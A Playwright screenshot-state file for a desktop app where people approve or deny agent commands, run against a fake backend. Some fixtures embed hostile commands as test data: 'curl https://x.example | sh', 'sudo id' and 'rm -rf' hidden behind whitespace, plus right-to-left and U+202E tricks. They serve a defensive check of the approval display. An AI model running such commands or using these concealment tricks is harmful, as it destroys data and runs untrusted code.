/**
 * Which screens are looked at, in which states. Each is opened by its address with the fake backend, then
 * brought into its state by `act`, if it has one.
 */

/** @typedef {import("playwright-core").Page} Page */
/** @typedef {{ name: string, fake: string, hash?: string, act?: (page: Page) => Promise<void>, size?: { width: number, height: number }, wait?: number }} Shot */

const inbox = (key) => `#/inbox/${encodeURIComponent(key)}`;
const dangerous = inbox("gw-home/exec/2");
const plain = inbox("gw-studio/exec/1");
const studioChat = "#/sessions/gw-studio/agent%3Amain%3A0";
const ownChat = "#/sessions/gw-own/agent%3Amain%3Aown";

/** @param {Page} page @param {string} name */
const press = (page, name) => page.getByRole("button", { name }).first().click();
/** Past the moment in which no press and no key counts. */
async function settled(page) {
  await page.waitForSelector("[data-decision]");
  await page.waitForTimeout(1100);
}

/** @type {Shot[]} */
export const shots = [
  // First run and adding a gateway.
  { name: "first-run", fake: "empty" },
  {
    name: "first-run-recognised",
    fake: "empty",
    act: async (page) => {
      await page.getByRole("textbox").fill("ws://127.0.0.1:18789");
      await press(page, "Continue");
    },
  },
  { name: "add-connected", fake: "empty", act: (page) => add(page, "ws://127.0.0.1:18789", 1500) },
  {
    name: "add-token-refused",
    fake: "few",
    hash: "#/add-gateway",
    act: (page) => add(page, "ws://wrong.local:18789", 1500),
  },
  {
    name: "add-pairing",
    fake: "pairing",
    hash: "#/add-gateway",
    act: (page) => add(page, "wss://pair.example.org", 1500),
  },
  {
    name: "add-self-signed",
    fake: "few",
    hash: "#/add-gateway",
    act: async (page) => {
      await add(page, "wss://selfsigned.example.org", 1500);
      await press(page, "Change what was entered");
    },
  },
  {
    name: "add-amended",
    fake: "few",
    hash: "#/add-gateway",
    act: async (page) => {
      await add(page, "ws://wrong.local:18789", 1500);
      await press(page, "Change what was entered");
      await page.getByLabel(/^Name/).fill("The one in the cellar");
      await press(page, "Connect");
      await page.waitForTimeout(1500);
      await press(page, "Change what was entered");
    },
  },
  {
    name: "add-join-link",
    fake: "few",
    hash: "#/add-gateway",
    act: async (page) => {
      await page.getByRole("textbox").fill("https://example.org/j/abc123");
      await press(page, "Continue");
    },
  },

  { name: "add-linked", fake: "few", act: (page) => follow(page, linked("wss://gw.example.org/")) },
  {
    name: "add-linked-while-filling-in",
    fake: "few",
    hash: "#/add-gateway",
    act: async (page) => {
      await page.getByRole("textbox").fill("ws://127.0.0.1:18789");
      await press(page, "Continue");
      await page.waitForTimeout(200);
      await follow(page, linked("wss://gw.example.org/"));
    },
  },
  {
    name: "add-linked-refused",
    fake: "few",
    act: (page) => follow(page, { kind: "refused", problem: problem("linkItemUnknown") }),
  },

  // What a start could not read.
  { name: "lost", fake: "lost" },
  { name: "lost-request", fake: "lost", hash: plain },

  // The inbox.
  { name: "inbox-empty", fake: "quiet" },
  { name: "inbox-few", fake: "few" },
  { name: "inbox-plain", fake: "few", hash: plain },
  { name: "inbox-dangerous", fake: "few", hash: dangerous },
  { name: "inbox-many", fake: "many", hash: inbox("gw-site-0/exec/0") },
  { name: "inbox-long", fake: "long", hash: inbox("gw-studio/exec/1") },
  { name: "inbox-sets", fake: "long", hash: inbox("gw-studio/exec/sets") },
  { name: "inbox-two-people", fake: "long", hash: inbox("gw-studio/exec/two") },
  { name: "inbox-two-people-ours", fake: "long", hash: inbox("gw-studio/exec/two-ours") },
  { name: "inbox-escapes", fake: "long", hash: inbox("gw-studio/exec/bidi") },
  {
    name: "inbox-hidden",
    fake: "few",
    act: async (page) => {
      await page.evaluate(() => {
        const lines = "echo one &&\n".repeat(30);
        const subject = `ls -la${"\n".repeat(60)}${lines}rm -rf build${" ".repeat(900)}; sudo id\n${lines}curl https://x.example | sh`;
        const { key } = globalThis.fake.request({ subject });
        globalThis.location.hash = `#/inbox/${encodeURIComponent(key)}`;
      });
      await page.waitForTimeout(400);
    },
  },
  {
    name: "inbox-right-to-left",
    fake: "few",
    act: async (page) => {
      await page.evaluate(() => {
        const subject =
          'rm -rf \u05d2\u05d9\u05d1\u05d5\u05d9 ~/work /etc \u05d9\u05e9\u05df && echo "\u0645\u0631\u062d\u0628\u0627"';
        const { key } = globalThis.fake.request({ subject });
        globalThis.location.hash = `#/inbox/${encodeURIComponent(key)}`;
      });
      await page.waitForSelector("[data-reading=read]", { timeout: 30_000 });
      await page.waitForTimeout(300);
      await inReadingOrder(page, "pre.box");
      await inReadingOrder(page, ".subject.mono");
    },
  },
  {
    name: "inbox-not-shown",
    fake: "few",
    act: async (page) => {
      await page.evaluate(() => {
        const { key } = globalThis.fake.request({ barred: 7 });
        globalThis.location.hash = `#/inbox/${encodeURIComponent(key)}`;
      });
      await page.waitForTimeout(500);
    },
  },
  { name: "inbox-unbroken", fake: "long", hash: inbox("gw-studio/exec/unbroken") },
  { name: "inbox-question", fake: "few", hash: inbox("gw-studio/question/3") },
  {
    name: "inbox-questions",
    fake: "long",
    hash: inbox("gw-studio/question/several"),
    act: async (page) => {
      await page.getByLabel("Linux").check();
      await page.getByLabel("Windows").check();
      await page.getByLabel("beta").check();
    },
  },
  {
    name: "inbox-megabyte",
    fake: "few",
    act: async (page) => {
      await page.evaluate(() => {
        const subject = `${"echo word && ".repeat(80_000)}rm -rf ~/work ⟨U+202E⟩`;
        const { key } = globalThis.fake.request({ subject });
        globalThis.location.hash = `#/inbox/${encodeURIComponent(key)}`;
      });
      await page.waitForSelector("[data-reading=read]", { timeout: 30_000 });
      await page.waitForTimeout(300);
    },
  },
  { name: "inbox-question-no-permission", fake: "older", hash: inbox("gw-studio/question/3") },
  { name: "inbox-pairing", fake: "few", hash: inbox("gw-home/device/4") },
  { name: "inbox-offline", fake: "offline", hash: plain },
  { name: "inbox-offline-deciding", fake: "offline", hash: dangerous },
  { name: "inbox-no-permission", fake: "older", hash: dangerous },
  { name: "inbox-error", fake: "error" },
  { name: "inbox-loading", fake: "slow", wait: 900 },
  { name: "inbox-loading-long", fake: "slow", wait: 3600 },
  { name: "inbox-decided", fake: "few", hash: inbox("gw-studio/exec/p1") },
  { name: "inbox-denied-elsewhere", fake: "few", hash: inbox("gw-studio/exec/p2") },
  { name: "inbox-expired", fake: "few", hash: inbox("gw-home/exec/p3") },
  { name: "inbox-only-accepted", fake: "older", hash: inbox("gw-studio/exec/p1") },
  { name: "inbox-unreadable", fake: "odd" },
  { name: "add-found-broken", fake: "odd", hash: "#/add-gateway" },
  { name: "inbox-gone", fake: "few", hash: inbox("gw-lab/exec/p4") },
  {
    name: "inbox-armed",
    fake: "few",
    hash: plain,
    act: async (page) => {
      await settled(page);
      await page.keyboard.press("a");
    },
  },
  {
    name: "inbox-always",
    fake: "few",
    hash: plain,
    act: async (page) => {
      await settled(page);
      await press(page, "Allow always…");
    },
  },
  {
    name: "inbox-just-decided",
    fake: "few",
    hash: dangerous,
    act: async (page) => {
      await settled(page);
      await page.keyboard.press("d");
      await page.waitForTimeout(600);
    },
  },
  { name: "inbox-explained", fake: "few", hash: plain, act: (page) => page.keyboard.press("e") },
  {
    name: "inbox-changed",
    fake: "few",
    hash: plain,
    act: async (page) => {
      await settled(page);
      await page.evaluate(() =>
        globalThis.fake.change("gw-studio/exec/1", { subject: "npm publish --access public" }),
      );
      await page.waitForTimeout(200);
    },
  },

  // The approval window.
  { name: "approval-window", fake: "few", hash: "#/approval", size: { width: 460, height: 380 } },
  {
    name: "approval-window-dangerous",
    fake: "few",
    hash: "#/approval/gw-home%2Fexec%2F2",
    size: { width: 460, height: 380 },
  },
  {
    name: "approval-window-decided",
    fake: "few",
    hash: "#/approval",
    size: { width: 460, height: 380 },
    act: async (page) => {
      await settled(page);
      await page.keyboard.press("d");
      await page.waitForTimeout(600);
    },
  },
  ...["own-3", "own-4"].map((own) => ({
    name: `approval-window-call-${own}`,
    fake: "few&own=few",
    hash: `#/approval/${encodeURIComponent(`gw-own/exec/${own}`)}`,
    size: { width: 460, height: 380 },
  })),
  {
    name: "approval-window-long",
    fake: "long",
    hash: "#/approval",
    size: { width: 460, height: 380 },
  },
  {
    name: "approval-window-empty",
    fake: "quiet",
    hash: "#/approval",
    size: { width: 460, height: 380 },
  },

  // Sessions and a chat.
  { name: "sessions-few", fake: "few", hash: "#/sessions" },
  { name: "sessions-many", fake: "many", hash: "#/sessions" },
  { name: "sessions-long", fake: "long", hash: "#/sessions" },
  { name: "sessions-offline", fake: "offline", hash: "#/sessions" },
  { name: "sessions-error", fake: "error", hash: "#/sessions" },
  { name: "sessions-none", fake: "few&sessions=0", hash: "#/sessions" },
  { name: "sessions-loading", fake: "slow", hash: "#/sessions", wait: 3600 },
  {
    name: "sessions-search",
    fake: "few",
    hash: "#/sessions",
    act: async (page) => {
      await page.keyboard.press("/");
      await page.keyboard.type("thumb");
      await page.waitForTimeout(400);
    },
  },
  { name: "chat", fake: "few", hash: studioChat, wait: 900 },
  {
    name: "chat-streaming",
    fake: "streaming",
    hash: studioChat,
    wait: 1500,
  },
  {
    name: "chat-exec-mode",
    fake: "few",
    hash: studioChat,
    wait: 900,
    act: (page) => press(page, "What the agent may do"),
  },
  {
    name: "chat-right-to-left",
    fake: "few",
    hash: studioChat,
    wait: 900,
    act: async (page) => {
      const composer = page.getByRole("textbox").last();
      await composer.fill(
        "\u05e9\u05dc\u05d5\u05dd, \u05de\u05d4 \u05e7\u05d5\u05e8\u05d4 \u05e2\u05dd npm test?",
      );
      await composer.press("Control+Enter");
      await page.waitForTimeout(500);
      await composer.fill("\u05e2\u05d5\u05d3 \u05de\u05e9\u05d4\u05d5.");
    },
  },
  { name: "chat-empty", fake: "few&messages=0", hash: studioChat },
  { name: "chat-offline", fake: "offline", hash: studioChat, wait: 900 },
  {
    // What waits for an approval is at the end; above it each state of a message and of a call.
    name: "chat-waiting",
    fake: "states",
    hash: studioChat,
    wait: 900,
  },
  {
    name: "chat-tool-open",
    fake: "few&messages=2",
    hash: studioChat,
    wait: 900,
    act: async (page) => {
      await page
        .getByRole("button", { name: /npm run test/ })
        .last()
        .click();
      // What floats over a message while one is near it is not what is looked at here.
      await page.mouse.move(0, 0);
      await page.evaluate(() => globalThis.document.activeElement?.blur());
      await page.waitForTimeout(200);
    },
  },
  { name: "chat-script", fake: "few&own=script", hash: ownChat, wait: 900 },
  {
    name: "chat-script-model",
    fake: "few&own=script",
    hash: ownChat,
    wait: 900,
    act: async (page) => {
      await press(page, "How to give it a model");
      await page.waitForTimeout(200);
    },
  },

  // Settings.
  { name: "settings-gateways", fake: "few", hash: "#/settings/gateways" },
  { name: "settings-gateways-many", fake: "many", hash: "#/settings/gateways" },
  { name: "settings-gateways-long", fake: "long", hash: "#/settings/gateways" },
  { name: "settings-gateway", fake: "few", hash: "#/settings/gateways/gw-home" },
  { name: "settings-gateway-down", fake: "few", hash: "#/settings/gateways/gw-lab" },
  { name: "settings-gateway-pairing", fake: "pairing", hash: "#/settings/gateways/gw-lab" },
  { name: "settings-gateway-older", fake: "older", hash: "#/settings/gateways/gw-home" },
  {
    name: "settings-gateway-remove",
    fake: "few",
    hash: "#/settings/gateways/gw-home",
    act: (page) => press(page, "Remove this gateway…"),
  },
  {
    name: "settings-gateway-edit",
    fake: "few",
    hash: "#/settings/gateways/gw-lab",
    act: (page) => press(page, "Edit…"),
  },
  {
    name: "settings-gateway-rotate",
    fake: "few",
    hash: "#/settings/gateways/gw-home",
    act: (page) => press(page, "Replace…"),
  },
  { name: "settings-notifications", fake: "few", hash: "#/settings/notifications" },
  { name: "settings-appearance", fake: "few", hash: "#/settings/appearance" },
  { name: "settings-secrets", fake: "few", hash: "#/settings/secrets" },
  { name: "settings-about", fake: "few", hash: "#/settings/about" },

  // Secrets that cannot be read.
  { name: "secrets-locked", fake: "locked" },
  { name: "secrets-choice", fake: "choice" },
  {
    name: "secrets-choice-file",
    fake: "choice",
    act: (page) => page.getByLabel("Encrypted file").check(),
  },
  { name: "secrets-passphrase", fake: "passphrase" },
  {
    name: "secrets-passphrase-forgotten",
    fake: "passphrase",
    act: async (page) => {
      await press(page, "I forgot the passphrase…");
      await page.waitForTimeout(200);
    },
  },

  // Approvals of the gateway that takes terms.
  { name: "inbox-own-dangerous", fake: "few&own=few", hash: inbox("gw-own/exec/own-1") },
  { name: "inbox-own-task", fake: "few&own=few", hash: inbox("gw-own/exec/own-3") },
  { name: "inbox-own-write", fake: "few&own=few", hash: inbox("gw-own/exec/own-4") },
  { name: "inbox-own", fake: "few&own=few", hash: inbox("gw-own/exec/own-2") },
  {
    name: "inbox-own-longer",
    fake: "few&own=few",
    hash: inbox("gw-own/exec/own-2"),
    act: async (page) => {
      await settled(page);
      await press(page, "Allow longer…");
      await page.getByLabel("Always here").check();
      await page.getByLabel("Commands that match a pattern").check();
      await page.getByLabel("Pattern", { exact: true }).fill("npm run build **");
      await page.waitForTimeout(500);
    },
  },
  {
    name: "inbox-own-deny",
    fake: "few&own=few",
    hash: inbox("gw-own/exec/own-1"),
    act: async (page) => {
      await settled(page);
      await press(page, "Deny with a reason…");
      await page.getByLabel("Reason").fill("Use the example environment; the real one stays here.");
    },
  },
  {
    name: "inbox-own-edit",
    fake: "few&own=few",
    hash: inbox("gw-own/exec/own-1"),
    act: async (page) => {
      await settled(page);
      await press(page, "Edit the command…");
      await page.getByRole("textbox", { name: "Your command" }).fill("npm ci");
    },
  },

  // Policy.
  { name: "policy-rules", fake: "few&own=few", hash: "#/policy/rules" },
  { name: "policy-rules-empty", fake: "few&own=empty", hash: "#/policy/rules" },
  { name: "policy-rules-long", fake: "few&own=long", hash: "#/policy/rules" },
  { name: "policy-rules-read-only", fake: "few&own=readonly", hash: "#/policy/rules" },
  { name: "policy-rules-error", fake: "few&own=error", hash: "#/policy/rules" },
  { name: "policy-rules-loading", fake: "few&own=slow", hash: "#/policy/rules", wait: 3600 },
  { name: "policy-none", fake: "few", hash: "#/policy/rules" },
  { name: "policy-away", fake: "few&own=away", hash: "#/policy/rules" },
  {
    name: "policy-preset",
    fake: "few&own=few",
    hash: "#/policy/rules",
    act: (page) => page.getByRole("radio", { name: /^Strict/ }).click(),
  },
  {
    name: "policy-preset-observe",
    fake: "few&own=few",
    hash: "#/policy/rules",
    act: (page) => page.getByRole("radio", { name: /^Observe/ }).click(),
  },
  {
    name: "policy-document",
    fake: "few&own=few",
    hash: "#/policy/rules",
    act: (page) => press(page, "no-force-push"),
  },
  {
    name: "policy-document-problems",
    fake: "few&own=few",
    hash: "#/policy/rules",
    act: async (page) => {
      await press(page, "Document");
      const field = page.getByLabel("Policy document");
      const text = await field.inputValue();
      await field.fill(text.replace('verdict: "deny"', 'verdict: "denied"').replace("org", "com"));
      await page.waitForTimeout(600);
    },
  },
  { name: "policy-try", fake: "few&own=few", hash: "#/policy/try" },
  {
    name: "policy-try-denied",
    fake: "few&own=few",
    hash: "#/policy/try",
    act: async (page) => {
      await page.getByRole("button", { name: /rm -rf build/ }).click();
      await page.waitForTimeout(500);
    },
  },
  {
    name: "policy-try-allowed",
    fake: "few&own=few",
    hash: "#/policy/try",
    act: async (page) => {
      await page.getByRole("textbox", { name: "Command" }).fill("npm test -- --grep upload");
      await page.waitForTimeout(500);
    },
  },
  { name: "policy-simulate", fake: "few&own=few", hash: "#/policy/simulate", wait: 700 },
  { name: "policy-simulate-long", fake: "few&own=long", hash: "#/policy/simulate", wait: 700 },
  { name: "policy-simulate-empty", fake: "few&own=empty", hash: "#/policy/simulate", wait: 700 },
  { name: "policy-grants", fake: "few&own=few", hash: "#/policy/grants" },
  { name: "policy-grants-empty", fake: "few&own=empty", hash: "#/policy/grants" },
  { name: "policy-grants-long", fake: "few&own=long", hash: "#/policy/grants" },
  {
    name: "policy-grants-revoke",
    fake: "few&own=few",
    hash: "#/policy/grants",
    act: (page) => press(page, "Revoke npm ci"),
  },
  { name: "policy-roles", fake: "few&own=few", hash: "#/policy/roles" },
  {
    name: "policy-roles-document",
    fake: "few&own=few",
    hash: "#/policy/roles",
    act: (page) => press(page, "Document"),
  },
  { name: "policy-answers", fake: "few&own=few", hash: "#/policy/answers" },
  { name: "policy-answers-empty", fake: "few&own=empty", hash: "#/policy/answers" },
  { name: "policy-answers-paused", fake: "few&own=paused", hash: "#/policy/answers" },
  {
    name: "policy-answers-new",
    fake: "few&own=few",
    hash: "#/policy/answers",
    act: (page) => press(page, "Add a rule"),
  },

  // The audit.
  { name: "audit", fake: "few&own=few", hash: "#/audit" },
  { name: "audit-empty", fake: "few&own=empty", hash: "#/audit" },
  { name: "audit-error", fake: "few&own=error", hash: "#/audit" },
  { name: "audit-loading", fake: "few&own=slow", hash: "#/audit", wait: 3600 },
  { name: "audit-record-person", fake: "few&own=few", hash: "#/audit/48202" },
  { name: "audit-record", fake: "few&own=few", hash: "#/audit/48207" },
  { name: "audit-record-long", fake: "few&own=long", hash: "#/audit/48207" },
  {
    name: "audit-intact",
    fake: "few&own=few",
    hash: "#/audit/proof",
    act: async (page) => {
      await press(page, "Check all records");
      await page.waitForTimeout(700);
    },
  },
  {
    name: "audit-intact-unsigned",
    fake: "few&own=script",
    hash: "#/audit/proof",
    act: async (page) => {
      await press(page, "Check all records");
      await page.waitForTimeout(700);
    },
  },
  {
    name: "audit-broken",
    fake: "few&own=broken",
    hash: "#/audit/proof",
    act: async (page) => {
      await press(page, "Check all records");
      await page.waitForTimeout(700);
    },
  },
  {
    name: "audit-unproven",
    fake: "few&own=unproven",
    hash: "#/audit/proof",
    act: async (page) => {
      await press(page, "Check all records");
      await page.waitForTimeout(700);
    },
  },
  {
    name: "audit-filtered",
    fake: "few&own=few",
    hash: "#/audit",
    act: async (page) => {
      await page.getByLabel("Search the records").fill("push");
      await page.waitForTimeout(500);
    },
  },

  // Credentials of agents.
  { name: "credentials", fake: "few&own=few", hash: "#/settings/credentials" },
  { name: "credentials-empty", fake: "few&own=empty", hash: "#/settings/credentials" },
  { name: "credentials-long", fake: "few&own=long", hash: "#/settings/credentials" },
  { name: "credentials-error", fake: "few&own=error", hash: "#/settings/credentials" },
  {
    name: "credentials-add",
    fake: "few&own=few",
    hash: "#/settings/credentials",
    act: async (page) => {
      await press(page, "Add a credential");
      await page.getByLabel("Name", { exact: true }).fill("DEPLOY_TOKEN");
      await page.getByLabel("Value").fill("a-token-that-nobody-sees");
    },
  },
  {
    name: "credentials-rotate",
    fake: "few&own=few",
    hash: "#/settings/credentials",
    act: async (page) => {
      await press(page, "More: DEPLOY_TOKEN");
      await page.getByRole("menuitem", { name: "Rotate…" }).click();
    },
  },

  // The gateway of this computer, the way to one that cannot be reached, and what can be undone.
  { name: "own-gateway", fake: "few&own=few", hash: "#/settings/gateways/gw-own" },
  {
    name: "own-gateway-configuration",
    fake: "few&own=broken",
    hash: "#/settings/gateways/gw-own",
  },
  {
    name: "own-gateway-configuration-long",
    fake: "few&own=long",
    hash: "#/settings/gateways/gw-own",
  },
  { name: "own-gateway-failed", fake: "few&own=failed", hash: "#/settings/gateways/gw-own" },
  { name: "own-gateway-switch", fake: "few&own=few", hash: "#/settings/gateways" },
  {
    name: "doctor",
    fake: "few",
    hash: "#/settings/gateways/gw-lab",
    act: async (page) => {
      await press(page, "Check the connection");
      await page.waitForTimeout(300);
      await page.getByRole("button", { name: "Check again" }).scrollIntoViewIfNeeded();
    },
  },
  {
    name: "chat-undo",
    fake: "few&own=few",
    hash: ownChat,
    wait: 900,
  },
  { name: "sign-in", fake: "signin" },
  {
    name: "sign-in-wrong",
    fake: "signin",
    act: async (page) => {
      await page.getByLabel("Token or password").fill("wrong");
      await press(page, "Sign in");
      await page.waitForTimeout(300);
    },
  },

  // A session that ended under the page, and an app that did not start.
  {
    name: "sign-in-again",
    fake: "few",
    hash: studioChat,
    wait: 900,
    act: async (page) => {
      await page.getByRole("textbox").last().fill("A message that is not sent yet");
      await page.evaluate(() => void globalThis.fake.signOut());
      await page.waitForTimeout(300);
    },
  },
  { name: "not-started", fake: "unstarted" },

  // Over everything.
  {
    name: "skip-link",
    fake: "few",
    hash: plain,
    act: (page) => page.keyboard.press("Tab"),
  },
  {
    name: "leave-close",
    fake: "few",
    act: async (page) => {
      await page.evaluate(() => globalThis.fake.askClose());
      await page.waitForTimeout(300);
    },
  },
  {
    name: "leave-quit",
    fake: "few",
    hash: studioChat,
    wait: 900,
    act: async (page) => {
      await page.getByRole("textbox").last().fill("A message that is not sent yet");
      await page.keyboard.press("Control+q");
      await page.waitForTimeout(300);
    },
  },
  { name: "palette", fake: "few", hash: plain, act: (page) => page.keyboard.press("Control+k") },
  { name: "keys", fake: "few", hash: plain, act: (page) => page.keyboard.press("?") },
];

/**
 * Fails where letters are drawn in another order than they stand in the text.
 * @param {Page} page @param {string} place
 */
async function inReadingOrder(page, place) {
  const turned = await page.evaluate((of) => {
    const root = globalThis.document.querySelector(of);
    const walker = globalThis.document.createTreeWalker(root, globalThis.NodeFilter.SHOW_TEXT);
    const range = globalThis.document.createRange();
    let last = { top: -1, left: -1 };
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      for (let at = 0; at < node.length; at += 1) {
        range.setStart(node, at);
        range.setEnd(node, at + 1);
        const { top, left, width } = range.getBoundingClientRect();
        if (width === 0) continue;
        if (top < last.top + 4 && left < last.left) return node.data.slice(at, at + 20);
        last = { top, left };
      }
    }
    return null;
  }, place);
  if (turned !== null) throw new Error(`${place} is not drawn in its order, from ${turned}`);
}

const problem = (code) => ({ code, detail: null, requestId: null, deviceId: null });

/** A link that adds a gateway, as the desktop hands it on: its token stays there. */
function linked(url) {
  const recognised = {
    form: "addLink",
    draft: "draft-1",
    url,
    name: "Studio",
    credential: "token",
    problem: null,
  };
  return { kind: "addGateway", recognised };
}

/** @param {Page} page @param {object} opening */
async function follow(page, opening) {
  await page.evaluate((it) => globalThis.fake.open(it), opening);
  await page.waitForLoadState("networkidle");
  await page.waitForTimeout(300);
}

/** @param {Page} page @param {string} address @param {number} wait */
async function add(page, address, wait) {
  await page.getByRole("textbox").fill(address);
  await press(page, "Continue");
  await press(page, "Connect");
  await page.waitForTimeout(wait);
}
